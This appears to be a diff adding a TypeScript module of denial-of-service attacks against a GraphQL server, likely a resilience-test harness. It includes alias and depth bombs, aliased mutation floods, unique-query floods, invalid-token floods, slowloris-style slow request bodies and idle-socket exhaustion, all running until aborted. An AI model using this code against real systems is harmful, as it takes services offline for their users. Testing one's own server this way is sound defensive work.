@@ -1,0 +1,113 @@
+/** The attacks that cost an attacker next to nothing: each runs until it is told to stop, at a pace that one laptop keeps. */
+import { randomUUID } from 'node:crypto';
+import { Agent, request } from 'node:http';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+/** Requests in a second, from one address. */
+const PACE = 50;
+const IDLE_SOCKETS = 10_000;
+/** How many are opened at once: more than a listening queue holds, and they only wait for each other. */
+const OPENED_AT_ONCE = 100;
+const SLOW_BODIES = 500;
+
+export interface Attack {
+  readonly name: string;
+  run(url: URL, signal: AbortSignal): Promise<void>;
+}
+
+const times = (count: number, part: (index: number) => string) =>
+  Array.from({ length: count }, (_, index) => part(index)).join(' ');
+
+export const ATTACKS: readonly Attack[] = [
+  documents('20,000 aliases', () => `{ ${times(20_000, (i) => `a${i}:__typename`)} }`),
+  documents(
+    '5,000 aliased mutations',
+    () => `mutation { ${times(5_000, (i) => `a${i}:createHold(input:{productId:"x"}){hold{id}}`)} }`,
+  ),
+  documents('depth 20,000', () => `${'{a'.repeat(20_000)}${'}'.repeat(20_000)}`),
+  documents(
+    'the most expensive document that is read',
+    () => `{ ${times(110, () => 'hold(id:"a"){id}')} # ${randomUUID()}\n}`,
+  ),
+  documents(
+    'a flood of different documents',
+    () => `query Q${randomUUID().replaceAll('-', '')} { products(first: 1) { edges { node { id name } } } }`,
+  ),
+  documents(
+    'tokens that do not verify',
+    () => '{ __typename }',
+    () => ({ authorization: `Bearer a.${randomUUID()}.b` }),
+  ),
+  { name: `${SLOW_BODIES} slow bodies`, run: slowBodies },
+  { name: `${IDLE_SOCKETS} idle sockets`, run: idleSockets },
+];
+
+function documents(name: string, query: () => string, headers: () => Record<string, string> = () => ({})): Attack {
+  return {
+    name,
+    run: async (url, signal) => {
+      const agent = new Agent({ keepAlive: true, maxSockets: 16 });
+      while (!signal.aborted) {
+        post(url, agent, JSON.stringify({ query: query() }), headers());
+        await pause(1_000 / PACE, signal);
+      }
+      agent.destroy();
+    },
+  };
+}
+
+/** Whatever is answered, and whether: an attacker does not look. */
+function post(url: URL, agent: Agent, body: string, headers: Record<string, string>): void {
+  request(new URL('/graphql', url), {
+    method: 'POST',
+    agent,
+    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...headers },
+  })
+    .on('response', (response) => response.on('error', () => undefined).resume())
+    .on('error', () => undefined)
+    .end(body);
+}
+
+async function slowBodies(url: URL, signal: AbortSignal): Promise<void> {
+  const head =
+    'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"query":"';
+  const sockets = await openMany(url, SLOW_BODIES, signal, head);
+  while (!signal.aborted) {
+    for (const socket of sockets) socket.write('x');
+    await pause(1_000, signal);
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+async function idleSockets(url: URL, signal: AbortSignal): Promise<void> {
+  const sockets = new Set<Socket>();
+  while (!signal.aborted) {
+    // Those that the server has closed are opened again.
+    for (const socket of sockets) if (socket.destroyed) sockets.delete(socket);
+    for (const socket of await openMany(url, IDLE_SOCKETS - sockets.size, signal)) sockets.add(socket);
+    await pause(500, signal);
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+async function openMany(url: URL, count: number, signal: AbortSignal, firstBytes = ''): Promise<Socket[]> {
+  const sockets: Socket[] = [];
+  while (sockets.length < count && !signal.aborted) {
+    const some = Array.from({ length: Math.min(OPENED_AT_ONCE, count - sockets.length) }, () => open(url, firstBytes));
+    sockets.push(...(await Promise.all(some)));
+  }
+  return sockets;
+}
+
+function open(url: URL, firstBytes: string): Promise<Socket> {
+  return new Promise((resolve) => {
+    const socket = connect(Number(url.port), url.hostname, () => {
+      socket.write(firstBytes);
+      resolve(socket);
+    });
+    socket.on('error', () => resolve(socket)).on('data', () => undefined);
+  });
+}
+
+const pause = (ms: number, signal: AbortSignal) => sleep(ms, undefined, { signal }).catch(() => undefined);
